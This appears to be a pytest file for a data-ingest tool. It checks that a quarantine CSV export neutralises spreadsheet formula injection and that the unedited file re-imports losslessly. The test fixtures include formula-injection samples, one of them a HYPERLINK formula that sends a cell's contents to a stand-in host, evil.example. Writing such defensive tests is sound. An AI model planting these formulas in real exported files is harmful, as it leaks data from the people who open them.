"""The quarantine CSV is safe to open in a spreadsheet and goes back in unedited (issue 13, item 12).

Known answers: hostile cells (formula prefixes, a leading tab or carriage return, line breaks inside a
value) come out neutralised with one apostrophe and quoted where needed, and re-submitting the
downloaded file as is restores exactly the values the source had.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re

from data import schema
from data.ingest import ingest, list_quarantine, quarantine_csv, resubmit
from tests.data.conftest import read_table
from tests.data.ingest.helpers import TODAY, seed

# value in the source -> the cell a spreadsheet must see
HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1": "'+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tTabbed": "'\tTabbed",
    "\rReturned": "'\rReturned",
    "two\rlines": "two\rlines",
    "three\nlines\r\nhere": "three\nlines\r\nhere",
    "'quoted by hand": "'quoted by hand",
    "'=typed with its apostrophe": "''=typed with its apostrophe",
    "O'Brien, Ltd": "O'Brien, Ltd",
    "-5": "-5",
}
FUTURE = "2026-03-01"  # after TODAY (2026-01-15): quarantined now, accepted once that day has come


def _customers_file(values: list[str]) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["customer_id", "name", "email", "signup_date", "segment", "region", "channel", "plan"])
    for number, value in enumerate(values, start=1):
        writer.writerow([number, value, f"c{number}@example.com", FUTURE, "SMB", "EMEA", "Web", "Basic"])
    return buffer.getvalue().encode()


def _downloaded_rows(text: str) -> list[dict]:
    """The download as a spreadsheet (or Python's csv module) reads it."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_hostile_cells_are_neutralised_and_line_breaks_stay_inside_their_cell(fresh_engine):
    values = list(HOSTILE)
    result = ingest(fresh_engine, "customers", _customers_file(values), filename="crm.csv", today=TODAY)
    assert result.quarantined == len(values)
    text = quarantine_csv(fresh_engine)
    rows = _downloaded_rows(text)
    assert len(rows) == len(values), "each quarantined row is one CSV record, line breaks included"
    assert [row["name"] for row in rows] == [HOSTILE[v] for v in values]
    assert [row["row_number"] for row in rows] == [str(n) for n in range(1, len(values) + 1)]
    for row in rows:  # no cell a spreadsheet would run as a formula
        for column, cell in row.items():
            assert not cell[:1] in ("=", "+", "@", "\t", "\r") and not cell.startswith("-2"), (column, cell)
    unquoted = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert "\r" not in unquoted and unquoted.count("\n") == len(values) + 1, "line breaks only inside quotes"


def test_the_unedited_download_resubmits_with_the_original_values(fresh_engine, tmp_path):
    values = list(HOSTILE)
    ingest(fresh_engine, "customers", _customers_file(values), filename="crm.csv", today=TODAY)
    path = tmp_path / "quarantine.csv"
    path.write_bytes(quarantine_csv(fresh_engine).encode())  # as the browser saves it
    result = resubmit(fresh_engine, "customers", path, today=dt.date(2026, 3, 2))
    assert (result.accepted, result.quarantined, result.exit_code) == (len(values), 0, 0), result.rejected_reason
    stored = read_table(fresh_engine, schema.customers).sort_values("customer_id")
    assert stored["name"].tolist() == values, "exactly the source's values: only the added apostrophe is removed"
    assert set(stored["source"]) == {"crm.csv"}


def test_resubmitting_the_download_as_bytes_or_text_restores_the_same_values(fresh_engine):
    ingest(fresh_engine, "customers", _customers_file(["=1+1", "'kept"]), filename="crm.csv", today=TODAY)
    result = resubmit(fresh_engine, "customers", quarantine_csv(fresh_engine).encode(), today=dt.date(2026, 3, 2))
    assert result.accepted == 2, result.rejected_reason
    assert read_table(fresh_engine, schema.customers)["name"].tolist() == ["=1+1", "'kept"]


def test_negative_numbers_stay_numbers_and_unreadable_numbers_keep_their_text(fresh_engine):
    seed(fresh_engine)
    header = "order_id,customer_id,order_date,product_id,quantity,unit_price\n"
    data = header + "90,1,2025-06-01,1,-5,20.0\n91,1,2025-06-01,1,-2+3,20.0\n"
    ingest(fresh_engine, "orders", data.encode(), filename="erp.csv", today=TODAY)
    rows = _downloaded_rows(quarantine_csv(fresh_engine, entity="orders"))
    assert [row["quantity"] for row in rows] == ["-5", "'-2+3"], "a negative number is a number, not a formula"
    result = resubmit(fresh_engine, "orders", quarantine_csv(fresh_engine, entity="orders"), today=TODAY)
    assert result.quarantined == 2
    reasons = list_quarantine(fresh_engine, entity="orders")["reason"].tolist()
    assert "`quantity` = -5 is out of range" in reasons[0], reasons
    assert "'-2+3'" in reasons[1] and "''-2+3'" not in reasons[1], "the source's text, without our apostrophe"


def test_a_file_that_is_not_utf8_or_not_csv_is_refused_with_a_reason(fresh_engine):
    ingest(fresh_engine, "customers", _customers_file(["Zoë"]), filename="crm.csv", today=TODAY)
    saved_by_excel = quarantine_csv(fresh_engine).encode("cp1252")  # Excel's plain "CSV" is Windows-1252
    result = resubmit(fresh_engine, "customers", saved_by_excel, today=dt.date(2026, 3, 2))
    assert result.exit_code == 2 and result.accepted == 0
    assert "is not UTF-8 text" in result.rejected_reason and "CSV UTF-8" in result.rejected_reason
    broken = 'quarantine_id,name\n1,"never closed\n'
    result = resubmit(fresh_engine, "customers", broken, today=dt.date(2026, 3, 2))
    assert result.exit_code == 2 and "quoted field that starts on line 2 is never closed" in result.rejected_reason, result.rejected_reason
    assert len(list_quarantine(fresh_engine)) == 1, "nothing was resolved"
